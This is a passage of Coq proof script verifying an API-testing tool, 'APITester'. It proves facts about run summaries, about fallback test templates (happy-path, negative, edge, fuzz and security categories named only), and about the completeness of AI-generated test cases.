  intros. split; [| split; [| split]].
  - unfold test_request, request_passes, met_by, failure_analysis. cbn [outcome].
    destruct (_get_headers self headers) as [hs | e]; [| left; now exists e].
    destruct (supported_method method); cbn [negb andb].
    + destruct (http_call self w) as [response | | msg | e].
      * destruct (status_match (status_code response) expected_status) eqn:Em;
          destruct (py_truthy validate_body) eqn:Ev; cbn [andb negb orb];
          [ destruct (_validate_response_body response expected_body expected_schema)
              as [[[|] msg] | e] eqn:Eb | | | ];
          cbn [andb];
          try (right; exists hs; split; [reflexivity |]; split; [reflexivity |];
               right; exists response; now repeat split);
          rewrite results_log_result;
          eexists; (split; [reflexivity |]);
          cbn [status response_data ai_analysis];
          (split; [easy |]); (split; [reflexivity |]); (split; [easy |]);
          try (intros Habs; now contradiction Habs);
          destruct (analyzer_on self); cbn [py_truthy]; try easy.
      * rewrite results_log_result;
          eexists; (split; [reflexivity |]);
          cbn [status response_data ai_analysis];
          (split; [easy |]); (split; [reflexivity |]); (split; [easy |]).
        destruct (analyzer_on self); cbn [py_truthy]; easy.
      * rewrite results_log_result;
          eexists; (split; [reflexivity |]);
          cbn [status response_data ai_analysis];
          (split; [easy |]); (split; [reflexivity |]); (split; [easy |]).
        destruct (analyzer_on self); cbn [py_truthy]; easy.
      * right. exists hs. split; [reflexivity |]. split; [reflexivity |]. now left.
    + rewrite results_log_result;
        eexists; (split; [reflexivity |]);
        cbn [status response_data ai_analysis py_truthy];
        (split; [easy |]); (split; [reflexivity |]); (split; [easy |]). easy.
  - intros e' Hh. unfold test_request. now rewrite Hh.
  - intros hs e Hh Hm Hw. unfold test_request. now rewrite Hh, Hm, Hw.
  - intros hs response e Hh Hm Hw Hv Hs Hb. unfold test_request.
    rewrite Hh, Hm, Hw, Hv, Hs. cbn [negb andb]. now rewrite Hb.
Qed.

Lemma run_one_verdict self w i tc :
  match run_one self w i tc with
  | Returns self' =>
      exists r,
        results self' = results self ++ [r]
        /\ timeout self' = timeout self
        /\ (status r = PASS <-> case_passes (met_by self w) tc = true)
  | Escapes _ => True
  end.
Proof.
  unfold run_one, case_passes.
  pose proof (test_request_verdict self w
                (get_or tc "method" (JStr "GET")) (get_or tc "endpoint" (JStr ""))
                (get_or tc "data" JNull) (get_or tc "expected_status" (JInt 200))
                None (Some (runner_test_name i tc)) (get_or tc "params" JNull)
                (get_or tc "expected_body" JNull) (get_or tc "expected_schema" JNull)
                (get_or tc "validate_body" (JBool false))) as Hv.
  destruct (test_request self w _ _ _ _ _ _ _ _ _ _) as [[self' ret] | e] eqn:Et;
    [| exact I].
  destruct Hv as (r & Hr & Hp). exists r.
  split; [exact Hr |]. split; [| exact Hp].
  now destruct (test_request_keeps_config _ _ _ _ _ _ _ _ _ _ _ _ _ _ Et).
Qed.

Lemma passed_app (self : APITester) (rs : list TestResult) :
  len (filter (fun r => match status r with PASS => true | FAIL => false end)
         (results self ++ rs))
  = passed (get_summary self)
    + len (filter (fun r => match status r with PASS => true | FAIL => false end) rs).
Proof.
  unfold get_summary, len. cbn [passed].
  rewrite filter_app, length_app. lia.
Qed.

Lemma met_by_config (self self' : APITester) (w : World) :
  timeout self' = timeout self -> met_by self' w = met_by self w.
Proof. intros E. unfold met_by. now rewrite (http_call_config self self' w E). Qed.

Lemma passing_cases_config (self self' : APITester) (world : nat -> World)
      (test_cases : list dict) :
  timeout self' = timeout self ->
  forall i,
    passing_cases (fun j => met_by self' (world j)) i test_cases
    = passing_cases (fun j => met_by self (world j)) i test_cases.
Proof.
  intros E. induction test_cases as [| tc rest IH]; intros i; cbn [passing_cases];
    [reflexivity |].
  now rewrite IH, (met_by_config self self' _ E).
Qed.

(** The summary after the first [k] cases, those that were run. *)
Lemma run_from_summary self world i test_cases :
  exists k,
    (k <= List.length test_cases)%nat
    /\ (snd (run_from self world i test_cases) = None <-> k = List.length test_cases)
    /\ total (get_summary (fst (run_from self world i test_cases)))
       = total (get_summary self) + Z.of_nat k
    /\ passed (get_summary (fst (run_from self world i test_cases)))
       = passed (get_summary self)
         + passing_cases (fun j => met_by self (world j)) i (firstn k test_cases).
Proof.
  revert self i.
  induction test_cases as [| tc rest IH]; intros self i; cbn [run_from].
  - exists 0%nat. cbn [fst snd List.length firstn passing_cases].
    repeat split; try reflexivity; lia.
  - pose proof (run_one_verdict self (world i) i tc) as Hv.
    destruct (run_one self (world i) i tc) as [self1 | e].
    + destruct Hv as (r & Hr & Hto & Hp).
      destruct (IH self1 (S i)) as (k & Hk & Hnone & Et & Ep).
      exists (S k). cbn [List.length firstn passing_cases].
      split; [lia |]. split; [rewrite Hnone; split; lia |].
      rewrite Et, Ep, (passing_cases_config self self1 world _ Hto).
      unfold get_summary at 1 3. cbn [total passed]. rewrite Hr.
      rewrite passed_app. unfold len at 1. rewrite length_app.
      unfold len. cbn [List.length filter].
      change (total (get_summary self)) with (Z.of_nat (List.length (results self))).
      destruct (case_passes (met_by self (world i)) tc).
      * rewrite (proj2 Hp eq_refl). cbn [List.length]. split; lia.
      * destruct (status r); [now specialize (proj1 Hp eq_refl) |].
        cbn [List.length]. split; lia.
    + exists 0%nat. cbn [fst snd List.length firstn passing_cases].
      split; [lia |]. split; [split; discriminate |]. split; lia.
Qed.

Lemma passing_cases_bounds world i test_cases :
  0 <= passing_cases world i test_cases <= len test_cases.
Proof.
  revert i. induction test_cases as [| tc rest IH]; intros i; cbn [passing_cases].
  - unfold len; cbn; lia.
  - specialize (IH (S i)). unfold len in *. cbn [List.length].
    destruct (case_passes (world i) tc); lia.
Qed.

(** X6.  The summary after a run.  A run executes the test cases in order
    up to the first request that an exception escapes, all of them when
    there is none; it adds the number of the cases it executed to [total]
    and the number of those that pass to [passed]; the rest of them, among
    them every timeout, transport error and unsupported method, goes to
    [failed], which never decreases.  All the cases are executed when the
    headers can be built, the timeout is positive, every call ends in a
    response, a transport error or a timeout, and no schema check raises. *)
Theorem summary_after_run :
  forall (self : APITester) (world : nat -> World) (test_cases : list dict),
    let before := get_summary self in
    let after := get_summary (fst (run_ai_generated_tests self world test_cases)) in
    exists k,
      (k <= List.length test_cases)%nat
      /\ (snd (run_ai_generated_tests self world test_cases) = None
          <-> k = List.length test_cases)
      /\ total after = total before + Z.of_nat k
      /\ passed after
         = passed before
           + passing_cases (fun j => met_by self (world j)) 1 (firstn k test_cases)
      /\ failed after
         = failed before
           + (Z.of_nat k
              - passing_cases (fun j => met_by self (world j)) 1 (firstn k test_cases))
      /\ failed before <= failed after
      /\ ((exists request_headers, _get_headers self None = Ok request_headers) ->
          0 < timeout self ->
          (forall j e, outcome (world j) <> Raises e) ->
          (forall tc instance e,
              In tc test_cases ->
              jsonschema_validate instance (get_or tc "expected_schema" JNull)
              <> SchemaRaises e) ->
          k = List.length test_cases).
Proof.
  intros self world test_cases before after. subst before after.
  unfold run_ai_generated_tests.
  destruct (run_from_summary self world 1 test_cases) as (k & Hk & Hnone & Et & Ep).
  pose proof (passing_cases_bounds (fun j => met_by self (world j)) 1
                (firstn k test_cases)) as Hb.
  unfold len in Hb. rewrite length_firstn in Hb.
  exists k. split; [exact Hk |]. split; [exact Hnone |].
  split; [exact Et |]. split; [exact Ep |].
  assert (Ef : forall t, failed (get_summary t)
                         = total (get_summary t) - passed (get_summary t))
    by reflexivity.
  rewrite !Ef, Et, Ep. split; [lia |]. split; [lia |].
  intros Hh Htime Hworld Hschema. apply Hnone. now apply run_from_completes.
Qed.
End VerdictFacts.

(** ** The tests of the template bank can be run *)

Lemma has_value_set_other (k k' : string) (ok : json -> bool) (v : json) (t : dict) :
  k <> k' -> has_value k ok (dict_set k' v t) = has_value k ok t.
Proof. intros Hk. unfold has_value. now rewrite dict_get_set_other. Qed.

Lemma has_value_set_same (k : string) (ok : json -> bool) (v : json) (t : dict) :
  has_value k ok (dict_set k v t) = ok v.
Proof. unfold has_value. now rewrite dict_get_set_same. Qed.

Lemma has_value_setdefault_other (k k' : string) (ok : json -> bool) (v : json) (t : dict) :
  k <> k' -> has_value k ok (dict_setdefault k' v t) = has_value k ok t.
Proof. intros Hk. unfold has_value. now rewrite dict_get_setdefault_other. Qed.

Lemma has_value_variant_other (k : string) (ok : json -> bool) (n : nat) (t : dict) :
  k <> "description" -> has_value k ok (variant n t) = has_value k ok t.
Proof.
  intros Hk. unfold variant.
  destruct (dict_get "description" t) as [[ | | | | d | | ] |]; try reflexivity.
  now apply has_value_set_other.
Qed.

Lemma has_value_variant_description (n : nat) (t : dict) :
  has_value "description" isinstance_str (variant n t)
  = has_value "description" isinstance_str t.
Proof.
  unfold variant.
  destruct (dict_get "description" t) as [[ | | | | d | | ] |] eqn:E; try reflexivity.
  rewrite has_value_set_same. unfold has_value. now rewrite E.
Qed.

Lemma dict_has_value (k : string) (t : dict) :
  dict_has k t = has_value k (fun _ => true) t.
Proof. reflexivity. Qed.

Lemma template_ok_set (k : string) (v : json) (t : dict) :
  mem_string k ["category"; "validate_body"; "data"; "params"] = true ->
  template_ok (dict_set k v t) = template_ok t.
Proof.
  intros Hk. unfold template_ok. rewrite !dict_has_value.
  rewrite !has_value_set_other; [reflexivity | | | | | |];
    intros <-; discriminate Hk.
Qed.

Lemma template_ok_setdefault (k : string) (v : json) (t : dict) :
  mem_string k ["category"; "validate_body"; "data"; "params"] = true ->
  template_ok (dict_setdefault k v t) = template_ok t.
Proof.
  intros Hk. unfold dict_setdefault.
  destruct (dict_has k t); [reflexivity | now apply template_ok_set].
Qed.

Lemma template_ok_variant (n : nat) (t : dict) :
  template_ok (variant n t) = template_ok t.
Proof.
  unfold template_ok. rewrite !dict_has_value.
  rewrite has_value_variant_description.
  now rewrite !has_value_variant_other by discriminate.
Qed.

(** The four steps that turn a template into a test of the bank, with the
    variant suffix put on before or after them or not at all. *)
Lemma bank_test_finish (category : string) (t : dict) :
  bank_category (JStr category) = true ->
  template_ok t = true ->
  has_value "category" bank_category t = true ->
  bank_test (dict_set "validate_body" (JBool false)
               (dict_setdefault "data" JNull
                  (dict_setdefault "params" JNull t))) = true.
Proof.
  intros Hc Ht Hcat. unfold bank_test.
  rewrite template_ok_set, !template_ok_setdefault, Ht by reflexivity.
  rewrite has_value_set_same.
  rewrite !dict_has_value.
  rewrite !has_value_set_other by discriminate.
  rewrite !has_value_setdefault_other by discriminate. rewrite Hcat.
  unfold has_value.
  rewrite dict_get_setdefault_same.
  rewrite dict_get_setdefault_other by discriminate.
  rewrite dict_get_setdefault_same.
  reflexivity.
Qed.

Lemma bank_test_categorize (category : string) (t : dict) :
  bank_category (JStr category) = true ->
  template_ok t = true ->
  bank_test (categorize category t) = true.
Proof.
  intros Hc Ht. unfold categorize.
  apply (bank_test_finish category); [exact Hc | |].
  - now rewrite template_ok_set.
  - now rewrite has_value_set_same.
Qed.

Lemma bank_test_variant (n : nat) (t : dict) :
  bank_test (variant n t) = bank_test t.
Proof.
  unfold bank_test. rewrite template_ok_variant, !dict_has_value.
  now rewrite !has_value_variant_other by discriminate.
Qed.

Lemma nth_mod_In (i : nat) (templates : list dict) :
  templates <> [] -> In (nth (Nat.modulo i (List.length templates)) templates []) templates.
Proof.
  intros Hn. apply nth_In. apply Nat.mod_upper_bound.
  destruct templates; [congruence | discriminate].
Qed.

Lemma cycled_tests_bank (category : string) (templates : list dict) (count : Z) :
  bank_category (JStr category) = true ->
  templates <> [] ->
  forallb template_ok templates = true ->
  forallb bank_test (cycled_tests category templates count) = true.
Proof.
  intros Hc Hn Hok. unfold cycled_tests.
  apply forallb_forall. intros t Hin. apply in_map_iff in Hin as (i & <- & _).
  assert (Hb : bank_test (categorize category
                            (nth (Nat.modulo i (List.length templates)) templates []))
               = true).
  { apply bank_test_categorize; [exact Hc |].
    apply (proj1 (forallb_forall _ _) Hok). now apply nth_mod_In. }
  destruct (_ <=? i)%nat; [now rewrite bank_test_variant | exact Hb].
Qed.

Lemma security_tests_bank (templates : list dict) (count : Z) :
  templates <> [] ->
  forallb template_ok templates = true ->
  forallb bank_test (security_tests templates count) = true.
Proof.
  intros Hn Hok. unfold security_tests.
  rewrite forallb_app. apply andb_true_intro. split.
  - apply forallb_forall. intros t Hin. apply in_map_iff in Hin as (i & <- & Hi).
    apply bank_test_categorize; [reflexivity |].
    apply (proj1 (forallb_forall _ _) Hok). apply nth_In.
    unfold range in Hi. apply in_seq in Hi. unfold len in Hi. lia.
  - destruct (len templates <? count); [| reflexivity].
    apply forallb_forall. intros t Hin. apply in_map_iff in Hin as (i & <- & _).
    apply (bank_test_finish "security_test"); [reflexivity | |].
    + rewrite template_ok_variant, template_ok_set by reflexivity.
      apply (proj1 (forallb_forall _ _) Hok). now apply nth_mod_In.
    + rewrite has_value_variant_other by discriminate.
      now rewrite has_value_set_same.
Qed.

Lemma shuffle_forallb {A : Type} (p : A -> bool) (x : list A) (g : rng) :
  forallb p x = true -> forallb p (fst (shuffle x g)) = true.
Proof.
  intros Hx.
  assert (Hz : forall l, List.length (filter (fun a => negb (p a)) l) = 0%nat
                         <-> forallb p l = true).
  { induction l as [| a l IH]; cbn; [easy |].
    destruct (p a); cbn; [exact IH | easy]. }
  apply Hz. rewrite shuffle_count. now apply Hz.
Qed.

Lemma shuffle_nonempty {A : Type} (x : list A) (g : rng) :
  x <> [] -> fst (shuffle x g) <> [].
Proof.
  intros Hx E. apply Hx. apply length_zero_iff_nil.
  rewrite <- (shuffle_length x g), E. reflexivity.
Qed.

Lemma firstn_incl {A : Type} (n : nat) (l : list A) (a : A) :
  In a (firstn n l) -> In a l.
Proof.
  revert l. induction n as [| n IH]; intros [| b l]; cbn; try easy.
  intros [-> | Ha]; [now left | right; now apply IH].
Qed.

Lemma slice_to_forallb {A : Type} (p : A -> bool) (l : list A) (n : Z) :
  forallb p l = true -> forallb p (slice_to l n) = true.
Proof.
  intros Hl. unfold slice_to.
  destruct (0 <=? n); apply forallb_forall; intros a Ha;
    apply (proj1 (forallb_forall _ _) Hl); eapply firstn_incl; exact Ha.
Qed.

Lemma security_templates_ok (has_auth : bool) :
  forallb template_ok (security_templates has_auth) = true.
Proof. destruct has_auth; reflexivity. Qed.

Lemma happy_templates_ok (sample_data : dict) :
  forallb template_ok (happy_templates sample_data) = true.
Proof. reflexivity. Qed.

Lemma negative_templates_ok (sample_data : dict) :
  forallb template_ok (negative_templates sample_data) = true.
Proof.
  unfold negative_templates. rewrite forallb_app. apply andb_true_intro.
  split; [reflexivity |].
  unfold missing_field_templates. apply forallb_forall. intros t Hin.
  apply in_map_iff in Hin as (key & <- & _). reflexivity.
Qed.

Lemma edge_templates_ok (sample_data : dict) :
  forallb template_ok (edge_templates sample_data) = true.
Proof. reflexivity. Qed.

Lemma fuzz_templates_ok : forallb template_ok fuzz_templates = true.
Proof. reflexivity. Qed.

Lemma fallback_tests_bank (api_url : string) (sample_data : dict) (num : Z)
      (has_auth : bool) (g : rng) (tests : list dict) (g' : rng) :
  _generate_fallback_tests api_url sample_data num has_auth g = Ok (tests, g') ->
  forallb bank_test tests = true.
Proof.
  unfold _generate_fallback_tests.
  destruct (fallback_counts num) as [c | e]; [| discriminate]. cbn [bind].
  pose proof (shuffle_forallb template_ok (security_templates has_auth) g
                (security_templates_ok has_auth)) as Hsec.
  pose proof (shuffle_nonempty (security_templates has_auth) g
                ltac:(destruct has_auth; discriminate)) as Hne.
  destruct (shuffle (security_templates has_auth) g) as [shuffled g1].
  cbn [fst] in Hsec, Hne.
  set (all_tests := security_tests shuffled (security_test c) ++ _).
  assert (Hall : forallb bank_test all_tests = true).
  { unfold all_tests. rewrite !forallb_app.
    rewrite security_tests_bank by assumption.
    assert (N1 : happy_templates sample_data <> []) by discriminate.
    assert (N2 : negative_templates sample_data <> []) by discriminate.
    assert (N3 : edge_templates sample_data <> []) by discriminate.
    assert (N4 : fuzz_templates <> []) by discriminate.
    rewrite (cycled_tests_bank "happy_path" _ _ eq_refl N1
               (happy_templates_ok sample_data)).
    rewrite (cycled_tests_bank "negative_test" _ _ eq_refl N2
               (negative_templates_ok sample_data)).
    rewrite (cycled_tests_bank "edge_case" _ _ eq_refl N3
               (edge_templates_ok sample_data)).
    rewrite (cycled_tests_bank "fuzz_test" _ _ eq_refl N4 fuzz_templates_ok).
    reflexivity. }
  pose proof (shuffle_forallb bank_test all_tests g1 Hall) as Hmixed.
  destruct (shuffle all_tests g1) as [mixed g2]. cbn [fst] in Hmixed.
  intros [= <- <-]. now apply slice_to_forallb.
Qed.

Section BankFacts.
Context `{Builtins}.

Lemma bank_test_verdict (t : dict) (w : World) :
  bank_test t = true ->
  case_passes w t
  = match outcome w with
    | Responded response =>
        status_match (status_code response) (get_or t "expected_status" JNull)
    | _ => false
    end.
Proof.
  unfold bank_test, template_ok, has_value, case_passes, request_passes, get_or.
  intros Hb.
  repeat (apply andb_prop in Hb as [Hb ?Hx]).
  destruct (dict_get "method" t) as [m |]; [| discriminate].
  destruct (dict_get "expected_status" t) as [codes |]; [| discriminate].
  destruct (dict_get "validate_body" t) as [[ | [|] | | | | | ] |]; try discriminate.
  rewrite Hb. cbn [andb py_truthy negb orb].
  destruct (outcome w); [| reflexivity | reflexivity | reflexivity].
  now rewrite andb_true_r.
Qed.

(** X7.  Every test of the template bank can be run.  Whatever the sample
    data, the authentication flag and the seed, each test case that
    [_generate_fallback_tests] returns names a method the tester sends, an
    endpoint, a non-empty list of integer status codes, a description, one
    of the five categories, has its [data] and [params] keys and asks for
    no body validation; so the runner logs it as passed exactly when the
    call is answered with one of its status codes. *)
Theorem fallback_tests_are_runnable :
  forall (api_url : string) (sample_data : dict) (num : Z) (has_auth : bool) (g : rng),
    0 <= num <= PY_SSIZE_T_MAX ->
    exists tests g',
      _generate_fallback_tests api_url sample_data num has_auth g = Ok (tests, g')
      /\ forall t, In t tests ->
           bank_test t = true
           /\ forall w, case_passes w t
                        = match outcome w with
                          | Responded response =>
                              status_match (status_code response)
                                (get_or t "expected_status" JNull)
                          | _ => false
                          end.
Proof.
  intros api_url sample_data num has_auth g Hn.
  destruct (fallback_tests_ok api_url sample_data num has_auth g Hn)
    as (c & tests & g' & _ & E & _).
  exists tests, g'. split; [exact E |].
  intros t Hin.
  assert (Hb : bank_test t = true)
    by (apply (proj1 (forallb_forall _ _)
                 (fallback_tests_bank api_url sample_data num has_auth g tests g' E));
        exact Hin).
  split; [exact Hb |]. intros w. now apply bank_test_verdict.
Qed.
End BankFacts.

Lemma fallback_tests_are_runnable_witness :
  exists tests g',
    _generate_fallback_tests "http://localhost:8000/items" [("name", JStr "x")] 20 true
      [3; 1; 4]%nat = Ok (tests, g')
    /\ forall t, In t tests ->
         bank_test t = true
         /\ forall w, case_passes (H := plain_builtins) w t
                      = match outcome w with
                        | Responded response =>
                            status_match (status_code response)
                              (get_or t "expected_status" JNull)
                        | _ => false
                        end.
Proof.
  apply (fallback_tests_are_runnable (H := plain_builtins)
           "http://localhost:8000/items" [("name", JStr "x")] 20 true [3; 1; 4]%nat).
  unfold PY_SSIZE_T_MAX. lia.
Defined.

(** ** What the generation returns, and from where *)

Lemma supported_method_str (v : json) :
  supported_method v = true -> isinstance_str v = true.
Proof. destruct v; cbn; try discriminate; reflexivity. Qed.

Lemma bank_test_ready (t : dict) : bank_test t = true -> runner_ready t = true.
Proof.
  unfold bank_test, template_ok, runner_ready, fixed_keys, has_value, dict_has.
  cbn [forallb].
  destruct (dict_get "method" t) as [m |];
    [destruct (supported_method m) eqn:Em |];
    [destruct (dict_get "endpoint" t) | |];
    [destruct (dict_get "expected_status" t) as [codes |] | | |];
    [destruct (status_codes codes) eqn:Ec | | | |];
    [destruct (dict_get "description" t) | | | | |];
    [destruct (dict_get "category" t) | | | | | |];
    [destruct (dict_get "data" t) | | | | | | |];
    [destruct (dict_get "params" t) | | | | | | | |];
    [destruct (dict_get "validate_body" t) | | | | | | | | |];
    try (intros Hb; repeat (rewrite ?andb_false_r in Hb; cbn [andb] in Hb);
         discriminate Hb).
  intros _. cbn [andb]. rewrite (supported_method_str m Em).
  unfold status_or_codes. rewrite Ec. now destruct codes.
Qed.

Section GeneratedFacts.
Context `{Builtins}.

Lemma fixed_ready (tc tc' : dict) :
  _validate_and_fix_test_case tc = Ok tc' -> runner_ready tc' = true.
Proof.
  rewrite fix_unfold.
  destruct (get_or tc "method" (JStr "GET")) as [ | | | | method | | ]; try discriminate.
  cbn zeta.
  assert (Hgen : forall n,
             runner_ready (dict_set "expected_status" (JInt n)
                             (dict_set "method" (JStr (py_upper method))
                                (with_defaults tc))) = true).
  { intros n. unfold runner_ready.
    rewrite has_value_set_same, has_value_set_other by discriminate.
    rewrite has_value_set_same. cbn [isinstance_str status_or_codes].
    rewrite !andb_true_r.
    pose proof (with_defaults_has tc) as Hh. unfold fixed_keys in *.
    cbn [forallb] in *. rewrite !dict_has_set.
    repeat (apply andb_prop in Hh as [?E Hh]).
    repeat (apply andb_true_intro; split);
      try (rewrite ?E, ?E0, ?E1, ?E2, ?E3, ?E4, ?E5, ?E6;
           rewrite ?orb_true_r; reflexivity). }
  destruct (py_int (get_or tc "expected_status" (JInt 200))) as [n | [m | m | m | m]];
    try discriminate; intros [= <-]; apply Hgen.
Qed.

Lemma validated_cases_ready (items : list json) :
  forallb runner_ready (validated_cases items) = true.
Proof.
  unfold validated_cases. induction items as [| item items IH];
    [reflexivity |].
  destruct item as [ | b | n | x | s | xs | d]; cbn [flat_map app]; try exact IH.
  destruct (_validate_and_fix_test_case d) as [tc' |] eqn:E; cbn [app]; [| exact IH].
  cbn [forallb]. now rewrite (fixed_ready d tc' E).
Qed.

Lemma fallback_ready api_url sample_data num has_auth g tests used g' :
  fallback api_url sample_data num has_auth g = Ok (tests, used, g') ->
  used = true /\ forallb bank_test tests = true.
Proof.
  unfold fallback.
  destruct (_generate_fallback_tests api_url sample_data num has_auth g)
    as [[ts g1] | e] eqn:E; [| discriminate].
  cbn [bind fst snd]. intros [= <- <- <-]. split; [reflexivity |].
  exact (fallback_tests_bank _ _ _ _ _ _ _ E).
Qed.

Lemma forallb_impl {A : Type} (p q : A -> bool) (l : list A) :
  (forall a, p a = true -> q a = true) -> forallb p l = true -> forallb q l = true.
Proof.
  intros Hpq Hl. apply forallb_forall. intros a Ha.
  apply Hpq. now apply (proj1 (forallb_forall _ _) Hl).
Qed.

(** Where the tests of a run of the retry loop come from. *)
Lemma attempts_source (remaining attempt : nat) (num_tests : Z) (replies : nat -> Reply)
      (tests : list dict) :
  attempts remaining attempt num_tests replies = Some tests ->
  exists (k : nat) (parsed : json) (items : list json),
    (attempt <= k < attempt + remaining)%nat
    /\ replies k = ReplyJson parsed
    /\ tests_of_parsed parsed = Some (JArr items)
    /\ tests = slice_to (validated_cases items) num_tests.
Proof.
  revert attempt. induction remaining as [| remaining IH]; intros attempt;
    cbn [attempts]; [discriminate |].
  destruct (attempt_step num_tests attempt (replies attempt)) as [ts | |] eqn:Es.
  - intros [= <-]. unfold attempt_step in Es.
    destruct (replies attempt) as [ | | | | parsed] eqn:Er;
      try (destruct (Nat.eqb attempt (max_retries - 1)); discriminate);
      try discriminate;
      try (destruct (attempt <? max_retries - 1)%nat; discriminate).
    destruct (tests_of_parsed parsed) as [[ | | | | | items | ] |] eqn:Et;
      try (destruct (attempt <? max_retries - 1)%nat; discriminate).
    destruct (min_acceptable num_tests) as [minimum | e];
      [| destruct (Nat.eqb attempt (max_retries - 1)); discriminate].
    exists attempt, parsed, items.
    split; [lia |]. split; [exact Er |]. split; [exact Et |].
    destruct (num_tests <=? len (validated_cases items)) eqn:E1.
    + now injection Es as <-.
    + destruct (minimum <=? len (validated_cases items));
        [| destruct (attempt <? max_retries - 1)%nat; discriminate].
      injection Es as <-. apply Z.leb_gt in E1.
      unfold slice_to.
      destruct (0 <=? num_tests) eqn:E0.
      * symmetry. apply firstn_all2. unfold len in E1. lia.
      * apply Z.leb_gt in E0. unfold len in E1. lia.
  - intros E. destruct (IH (S attempt) E) as (k & parsed & items & Hk & Hrest).
    exists k, parsed, items. split; [lia | exact Hrest].
  - discriminate.
Qed.
Lemma bank_tests_ready (tests : list dict) :
  forallb bank_test tests = true -> forallb runner_ready tests = true.
Proof. apply forallb_impl. exact bank_test_ready. Qed.

Lemma single_batch_ready api_url sample_data num_tests test_types has_auth
      batch_num total client g tests used g' :
  _generate_single_batch api_url sample_data num_tests test_types has_auth
    batch_num total client g = Ok (tests, used, g') ->
  forallb runner_ready tests = true.
Proof.
  unfold _generate_single_batch. cbn zeta.
  assert (Hw : fallback api_url sample_data num_tests has_auth g = Ok (tests, used, g') ->
               forallb runner_ready tests = true).
  { intros E. apply fallback_ready in E as [_ Hb]. now apply bank_tests_ready. }
  destruct client as [[ | | | | parsed] |]; try exact Hw.
  destruct (tests_of_parsed parsed) as [test_cases |]; [| exact Hw].
  destruct (py_iter test_cases) as [items | e]; [| exact Hw].
  destruct (py_mul_int_float num_tests (float_lit 7 10)) as [threshold | e];
    [| exact Hw].
  destruct (py_ge_int_float (len (validated_cases items)) threshold).
  - intros [= <- <- <-]. apply validated_cases_ready.
  - destruct (_generate_fallback_tests api_url sample_data
                (num_tests - len (validated_cases items)) has_auth g)
      as [[extra g1] | e] eqn:E; [| exact Hw].
    intros [= <- <- <-]. rewrite forallb_app, validated_cases_ready. cbn [andb].
    apply bank_tests_ready. exact (fallback_tests_bank _ _ _ _ _ _ _ E).
Qed.

Lemma run_batches_ready api_url sample_data test_types has_auth total client
      (counts : list Z) :
  forall (batch_idx : nat) (all_tests : list dict) (used : bool) (g : rng)
         (tests : list dict) (used' : bool) (g' : rng),
    forallb runner_ready all_tests = true ->
    run_batches api_url sample_data test_types has_auth total client counts
      batch_idx all_tests used g = Ok (tests, used', g') ->
    forallb runner_ready tests = true.
Proof.
  induction counts as [| c counts IH];
    intros batch_idx all_tests used g tests used' g' Hall; cbn [run_batches].
  - now intros [= <- <- <-].
  - destruct (_generate_single_batch api_url sample_data c test_types has_auth
                (Z.of_nat batch_idx + 1) total
                (option_map (fun replies => replies batch_idx) client) g)
      as [[[batch_tests batch_fallback] g1] | e] eqn:E; [| discriminate].
    cbn [bind]. apply IH.
    rewrite forallb_app, Hall. cbn [andb].
    exact (single_batch_ready _ _ _ _ _ _ _ _ _ _ _ _ E).
Qed.

Lemma batched_ready api_url sample_data num_tests test_types has_auth client g
      tests used g' :
  _generate_test_cases_batched api_url sample_data num_tests test_types has_auth
    client g = Ok (tests, used, g') ->
  forallb runner_ready tests = true.
Proof.
  unfold _generate_test_cases_batched.
  destruct (run_batches api_url sample_data test_types has_auth
              (total_batches num_tests) client (tests_per_batch num_tests) 0 []
              false g) as [[[all_tests used0] g1] | e] eqn:E; [| discriminate].
  cbn [bind].
  pose proof (run_batches_ready _ _ _ _ _ _ _ 0%nat [] false g all_tests used0 g1
                eq_refl E) as Hall.
  destruct (len all_tests <? num_tests).
  - destruct (_generate_fallback_tests api_url sample_data
                (num_tests - len all_tests) has_auth g1) as [[extra g2] | e] eqn:Ef;
      [| discriminate].
    cbn [bind fst snd]. intros [= <- <- <-].
    apply slice_to_forallb. rewrite forallb_app, Hall. cbn [andb].
    apply bank_tests_ready. exact (fallback_tests_bank _ _ _ _ _ _ _ Ef).
  - intros [= <- <- <-]. now apply slice_to_forallb.
Qed.

Lemma generation_ready api_url sample_data num_tests test_types has_auth client g
      tests used g' :
  generate_test_cases api_url sample_data num_tests test_types has_auth client g
  = Ok (tests, used, g') ->
  forallb runner_ready tests = true.
Proof.
  unfold generate_test_cases.
  destruct (50 <? num_tests); [apply batched_ready |].
  assert (Hw : fallback api_url sample_data num_tests has_auth g = Ok (tests, used, g') ->
               forallb runner_ready tests = true).
  { intros E. apply fallback_ready in E as [_ Hb]. now apply bank_tests_ready. }
  destruct client as [replies |]; [| exact Hw].
  destruct (attempts max_retries 0 num_tests replies) as [ts |] eqn:E; [| exact Hw].
  intros [= <- <- <-].
  destruct (attempts_source _ _ _ _ _ E) as (k & parsed & items & _ & _ & _ & ->).
  apply slice_to_forallb, validated_cases_ready.
Qed.

(** X8.  Whatever the provider does, every test case that
    [generate_test_cases] returns is complete: for every count from 1 on,
    with or without a client and on either path (the retry loop or the
    batches), the call returns, and each test of the list has the eight keys
    the runner reads, a string as its method and, as its expected status, an
    integer or a non-empty list of integers. *)
Theorem generated_tests_are_ready :
  forall (api_url : string) (sample_data : dict) (num_tests : Z)
         (test_types : option (list string)) (has_auth : bool) (client : Client)
         (g : rng),
    1 <= num_tests <= PY_SSIZE_T_MAX ->
    exists tests used g',
      generate_test_cases api_url sample_data num_tests test_types has_auth client g
      = Ok (tests, used, g')
      /\ forall t, In t tests -> runner_ready t = true.
Proof.
  intros api_url sample_data num_tests test_types has_auth client g Hn.
  assert (Hex : exists tests used g',
             generate_test_cases api_url sample_data num_tests test_types has_auth
               client g = Ok (tests, used, g')).
  { unfold generate_test_cases.
    destruct (50 <? num_tests).
    - destruct (batched_ok api_url sample_data num_tests
                  (match test_types with
                   | Some types => types
                   | None => ["happy_path"; "edge_cases"; "negative_tests";
                              "security_tests"]
                   end) has_auth client g Hn) as (tests & used & g' & E & _).
      now exists tests, used, g'.
    - destruct (fallback_ok api_url sample_data num_tests has_auth g ltac:(lia))
        as (tests & g' & E & _).
      destruct client as [replies |]; [| now exists tests, true, g'].
      destruct (attempts max_retries 0 num_tests replies) as [ts |];
        [now exists ts, false, g | now exists tests, true, g']. }
  destruct Hex as (tests & used & g' & E). exists tests, used, g'.
  split; [exact E |]. intros t Hin.
  apply (proj1 (forallb_forall _ _) (generation_ready _ _ _ _ _ _ _ _ _ _ E)).
  exact Hin.
Qed.

(** X9.  The flag tells where the tests come from.  For a count of at most
    50 and a client, when [generate_test_cases] returns with the flag set
    the tests are those of the template bank for that count and seed; when
    it returns with the flag clear, the random source is untouched and the
    tests are the validated items of the reply to one of the three attempts,
    cut to the count. *)
